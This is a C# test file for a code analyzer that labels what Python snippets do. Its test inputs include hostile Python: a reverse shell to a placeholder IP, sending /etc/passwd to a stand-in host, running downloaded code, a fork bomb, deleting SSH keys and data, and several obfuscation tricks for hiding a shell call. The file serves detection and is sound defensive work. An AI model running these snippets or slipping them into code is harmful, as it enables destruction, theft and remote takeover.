using Sallyport.Shell;

namespace Sallyport.Tests.Shell.Code;

public class PythonTests
{
    [Theory]
    [InlineData("import os; os.remove('/etc/hosts')", "Delete /etc/hosts")]
    [InlineData("import os as o\no.unlink('notes.txt')", "Delete /home/dev/app/notes.txt")]
    [InlineData("from os import remove as r; r('a')", "Delete /home/dev/app/a")]
    [InlineData("from os import *; system('id')", "Shell: id")]
    [InlineData("from shutil import rmtree\nrmtree('/srv/data')", "Delete -r /srv/data")]
    [InlineData("import os; os.chdir('/srv'); os.rmdir('data')", "Delete /srv/data")]
    [InlineData("import shutil, os; shutil.rmtree(os.path.expanduser('~/work'))", "Delete -r /home/dev/work")]
    [InlineData("from pathlib import Path; (Path.home() / '.ssh' / 'id_rsa').unlink()", "Delete /home/dev/.ssh/id_rsa")]
    [InlineData("from pathlib import Path\nfor p in Path('/srv').rglob('*.log'):\n    p.unlink()", "Delete -r /srv/*")]
    [InlineData("import os\nfor root, dirs, files in os.walk('/srv'):\n  for f in files:\n    os.remove(os.path.join(root, f))", "Delete -r /srv/*/*")]
    [InlineData("import glob, os\nfor f in glob.glob('/srv/*.db'): os.remove(f)", "Delete /srv/*.db")]
    [InlineData("with open('/etc/motd', 'w') as f:\n    f.write('hello')", "Truncate /etc/motd #overwrite")]
    [InlineData("open('/root/.profile', mode='a').write('x')", "Write /root/.profile #append")]
    [InlineData("import os; os.truncate('/srv/db', 0)", "Truncate /srv/db")]
    [InlineData("import os; os.chmod('/srv/key', 0o777)", "ChangeMode /srv/key #world-writable")]
    [InlineData("import os; os.rename('/srv/a', '/srv/b')", "Move /srv/a")]
    [InlineData("import shutil; shutil.copy('/etc/shadow', '/srv/copy')", "Read /etc/shadow #copy")]
    public void Files(string code, string expected) => CodeProbe.Does(CodeLanguage.Python, code, expected);

    [Theory]
    [InlineData("import os; os.system('uname -a')", "Shell: uname -a")]
    [InlineData("import subprocess; subprocess.run(['git', 'status'])", "run git status")]
    [InlineData("import subprocess as sp\nsp.check_output('ls | wc', shell=True)", "Shell: ls | wc")]
    [InlineData("from subprocess import *; Popen(args=['make'])", "run make")]
    [InlineData("import os; os.execlp('tar', 'tar', 'xf', 'a.tar')", "run tar xf a.tar")]
    [InlineData("import os; os.execvp('tar', ['tar', 'tf', 'a.tar'])", "run tar tf a.tar")]
    [InlineData("import asyncio; asyncio.run(asyncio.create_subprocess_shell('id'))", "Shell: id")]
    [InlineData("import pty; pty.spawn('/bin/sh')", "run /bin/sh")]
    [InlineData("import os, signal; os.kill(1, signal.SIGKILL)", "Kill 1 #init")]
    [InlineData("import psutil\nfor p in psutil.process_iter():\n    p.kill()", "Kill any process ?")]
    [InlineData("import os\nwhile True:\n    os.fork()", "Exhaust  #fork-bomb")]
    [InlineData("import ctypes; ctypes.CDLL(None).system(b'id')", "Shell: id")]
    public void Processes(string code, string expected) => CodeProbe.Does(CodeLanguage.Python, code, expected);

    [Theory]
    [InlineData("import requests; requests.post('https://example.org/in', data=open('/etc/passwd').read())", "SendData https://example.org/in #file")]
    [InlineData("import requests; requests.get('https://example.org')", "Connect https://example.org")]
    [InlineData("from urllib import request\nrequest.urlopen('https://example.org/a').read()", "Connect https://example.org/a")]
    [InlineData("import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 9000))", "Connect 192.0.2.1:9000 #code-socket")]
    [InlineData("import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',9000));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')", "OpenSession 192.0.2.1:9000 #reverse-shell")]
    [InlineData("import requests; exec(requests.get('https://example.org/a.py').text)", "ExecuteDownloaded download of https://example.org/a.py ? #exec")]
    [InlineData("import urllib.request as u, os\nos.system(u.urlopen('http://example.org').read().decode())", "ExecuteDownloaded download of http://example.org.decode ? #os.system")]
    public void Network(string code, string expected) => CodeProbe.Does(CodeLanguage.Python, code, expected);

    [Theory]
    [InlineData("__import__('os').system('id')")]
    [InlineData("__import__('o' + 's').__dict__['sys' 'tem']('id')")]
    [InlineData("getattr(__import__('os'), 'metsys'[::-1])('id')")]
    [InlineData("import importlib; importlib.import_module('os').system('id')")]
    [InlineData("import base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))")]
    [InlineData("exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d2827696427290a'))")]
    [InlineData("eval(compile(\"__import__('os').system('id')\", 'f', 'eval'))")]
    [InlineData("import os; os.system(''.join(chr(c) for c in [105, 100]))")]
    [InlineData("import os; os.system('%s%s' % ('i', 'd'))")]
    [InlineData("import os; os.system('{}{d}'.format('i', d='d'))")]
    [InlineData("import os; x = ['i', 'd']; os.system(''.join(x))")]
    [InlineData("import os; os.system(f\"{'i'}{'d'}\")")]
    [InlineData("import os\ndef go(c):\n    os.system(c)\ngo('id')")]
    [InlineData("import os\nclass A:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        os.system(self.c)\nA('id').go()")]
    [InlineData("import os\nrun = lambda c: os.system(c)\nlist(map(run, ['id']))")]
    [InlineData("import os, threading\nthreading.Thread(target=lambda: os.system('id')).start()")]
    [InlineData("import pickle, os\nclass A:\n    def __reduce__(self):\n        return os.system, ('id',)\npickle.loads(pickle.dumps(A()))")]
    [InlineData("import os\nif input() == 'y':\n    c = 'id'\nelse:\n    c = 'ls'\nos.system(c)")]
    [InlineData("import os\ntry:\n    pass\nexcept Exception:\n    os.system('id')")]
    [InlineData("import codecs; exec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13'))")]
    [InlineData("x = __builtins__.__dict__['__import__']('os'); x.system('id')")]
    public void Disguises_of_one_command(string code) => CodeProbe.Does(CodeLanguage.Python, code, "Shell: id");

    [Theory]
    [InlineData("print(1)")]
    [InlineData("import sys, json; d = json.load(sys.stdin); print(d['name'])")]
    [InlineData("# import os; os.remove('/etc/hosts')")]
    [InlineData("print('os.remove(\"/etc/hosts\")')")]
    [InlineData("'''import os; os.system(\"id\")'''")]
    [InlineData("import re; print(re.sub('a', 'b', open('x.txt').read()))")]
    [InlineData("def fact(n): return 1 if n < 2 else n * fact(n - 1)\nprint(fact(20))")]
    [InlineData("import math, datetime, collections; print(sum(i * i for i in range(10 ** 6)))")]
    [InlineData("import numpy as np; a = np.zeros((3, 3)); print(a @ a.T)")]
    [InlineData("import os; print(os.environ.get('PATH'), os.getcwd(), os.path.exists('/etc'))")]
    [InlineData("def unused():\n    import os\n    os.remove('/etc/hosts')\n")]
    [InlineData("import os; os = 3; print(os)")]
    [InlineData("import pandas as pd; df = pd.read_csv('a.csv'); print(df.groupby('x').sum().query('y > 1'))")]
    public void Ordinary_programs_do_nothing(string code) => CodeProbe.IsHarmless(CodeLanguage.Python, code);

    [Theory]
    [InlineData("import os; getattr(os, name)('x')")]
    [InlineData("exec(input())")]
    [InlineData("import subprocess, sys; subprocess.run(sys.argv[1:])")]
    [InlineData("import os, sys; os.system(sys.argv[1])")]
    public void What_is_picked_at_run_time_is_unknown(string code) =>
        Assert.Contains(CodeProbe.Read(CodeLanguage.Python, code).Effects, e => e.Kind == EffectKind.ExecuteUnknown);

    [Fact]
    public void A_part_that_is_not_known_stays_unknown()
    {
        var code = new Word([new Piece(PieceKind.Literal, "import os; os.remove('/srv/"), new Piece(PieceKind.Unknown, "$NAME"), new Piece(PieceKind.Literal, "')")]);
        var effect = Assert.Single(CodeProbe.Read(CodeLanguage.Python, code).Effects);
        Assert.Equal(new Target(TargetKind.Path, "/srv/$NAME", false), effect.Target);
    }

    [Fact]
    public void A_script_that_is_run_as_text_is_asked_for_and_read()
    {
        const string Code = "exec(open('setup_env.py').read())";
        Assert.Equal("/home/dev/app/setup_env.py", Assert.Single(CodeProbe.Read(CodeLanguage.Python, Code).Wanted).Path);
        var facts = CodeProbe.Facts with
        {
            Files = new Dictionary<string, FileFact> { ["/home/dev/app/setup_env.py"] = new(FileKind.File, "/home/dev/app/setup_env.py", "import os; os.remove('/etc/hosts')") },
        };
        Assert.Contains("Delete /etc/hosts", CodeProbe.Lines(CodeProbe.Read(CodeLanguage.Python, Code, facts)));
    }
}
